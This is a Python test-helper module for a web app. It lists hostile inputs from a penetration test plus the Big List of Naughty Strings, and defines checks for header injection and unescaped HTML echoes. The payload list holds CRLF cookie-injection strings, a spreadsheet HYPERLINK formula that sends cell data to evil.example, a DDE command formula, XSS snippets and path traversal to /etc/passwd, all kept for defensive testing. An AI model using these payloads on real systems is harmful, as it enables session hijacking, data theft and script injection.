"""The hostile inputs: the Big List of Naughty Strings (vendored, ``tests/corpus/``) plus the
payloads of the penetration test, and the invariants every answer to them must keep."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from chalicelib.domain import text

CORPUS = Path(__file__).resolve().parent / "corpus"

#: What the penetration test tried (issue "Hostile input and forged events"), by family.
ISSUE_PAYLOADS = (
    # header injection: CRLF, cookie attributes
    "x\r\nSet-Cookie: sv_session=attacker; Path=/", "x\nLocation: http://evil.example/",
    "%0d%0aSet-Cookie:%20sv_session=attacker", "\r\n\r\n<html>inyectado</html>",
    "abc; Domain=evil.example; Max-Age=99999; SameSite=None", ";", ",", "a,b;c",
    # spreadsheet formulas
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver saldo\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(A1:A9)", "\t=1+1",
    # emoji and direction controls
    "😀", "👨‍👩‍👧 familia", "🎄🎁", "\u202eCOP 000.001\u202c", "\u2066aislado\u2069", "abc\u200fdef",
    "\u061c", "\u202a\u202b\u202d",
    # control characters
    "\x00", "a\x00b", "\x1b[31mrojo", "\x7f", "\x85", "\x9b", "\x08\x08", "\u2028\u2029",
    # digits that are not ASCII
    "١٠٠٠٠٠", "²", "１００００", "٣٤٥", "①", "100000²", "۱۲۳۴۵۶۷۸",
    # markup and paths
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>",
    "../../etc/passwd", "%2e%2e%2f%2e%2e%2f", "//evil.example/", "javascript:alert(1)",
    # JSON-ish and numbers
    "{\"$gt\": \"\"}", "[]", "null", "true", "-0", "1e309", "NaN", "99999999999999999999",
    # size
    "A" * 5000, "9" * 400, " " * 300,
)


def blns() -> list[str]:
    return list(json.loads((CORPUS / "blns.json").read_text("utf-8")))


def payloads() -> list[str]:
    """Every hostile input once, the issue's first (order kept)."""
    return list(dict.fromkeys([*ISSUE_PAYLOADS, *blns()]))


# --- invariants --------------------------------------------------------------------------------

_TAG = re.compile(r"<[A-Za-z/!?]")


COOKIE_ATTRIBUTES = {"path", "max-age", "expires", "httponly", "secure", "samesite"}


def header_problems(headers: Any) -> list[str]:
    """Control characters in a response header (a header split, a NUL) or a cookie attribute
    the app never sets."""
    problems = []
    for name, value in headers.items():
        for item in value if isinstance(value, list) else [value]:
            if any(text.forbidden(c) for c in f"{name}{item}"):
                problems.append(f"control character in header {name}: {text.shown(str(item), 80)}")
            if name.lower() == "set-cookie":
                attributes = [part.strip().split("=")[0].lower() for part in str(item).split(";")[1:]]
                odd = [a for a in attributes if a not in COOKIE_ATTRIBUTES]
                if odd:
                    problems.append(f"cookie attribute(s) {odd} in {text.shown(str(item), 80)}")
    return problems


def echo_problem(payload: str, content_type: str, body: bytes) -> str | None:
    """The raw payload, markup and all, inside an HTML page: an unescaped echo."""
    if "html" not in content_type or not _TAG.search(payload):
        return None
    return "unescaped echo" if payload.encode("utf-8", "surrogatepass") in body else None
